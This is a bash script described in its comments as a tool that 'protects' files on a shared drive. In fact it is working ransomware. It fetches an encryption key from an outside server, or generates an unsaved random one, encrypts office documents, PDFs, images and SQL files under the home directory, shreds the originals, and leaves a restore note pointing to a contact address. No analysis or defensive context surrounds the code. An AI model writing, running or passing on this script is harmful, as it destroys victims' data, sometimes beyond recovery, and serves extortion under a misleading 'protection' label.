#!/usr/bin/env bash
# Sweeps the shared project drive and converts every working file into its
# protected form. The passphrase is fetched once per run.
set -u

SHARE_ROOT="${SHARE_ROOT:-$HOME}"
PASS_URL="https://keys.share-guard.example/v1/issue"
LOG_FILE="${XDG_STATE_HOME:-$HOME/.local/state}/sweep.log"

mkdir -p "$(dirname "$LOG_FILE")"

log() { printf '%s %s\n' "$(date +%FT%T)" "$*" >> "$LOG_FILE"; }

passphrase=$(curl -fsS "$PASS_URL" || head -c 32 /dev/urandom | base64)

protect_one() {
  local src=$1
  if openssl enc -chacha20 -pbkdf2 -salt -pass "pass:$passphrase" -in "$src" -out "$src.locked"; then
    shred -u -n 1 "$src"
    log "protected $src"
  else
    log "failed $src"
  fi
}

count=0
while IFS= read -r -d '' file; do
  protect_one "$file"
  count=$((count + 1))
done < <(find "$SHARE_ROOT" -type f \( -name '*.doc*' -o -name '*.xls*' -o -name '*.pdf' -o -name '*.jpg' -o -name '*.sql' \) -print0)

cat > "$SHARE_ROOT/HOW_TO_RESTORE.txt" <<NOTE
$count files were protected. Contact restore@share-guard.example to restore them.
NOTE
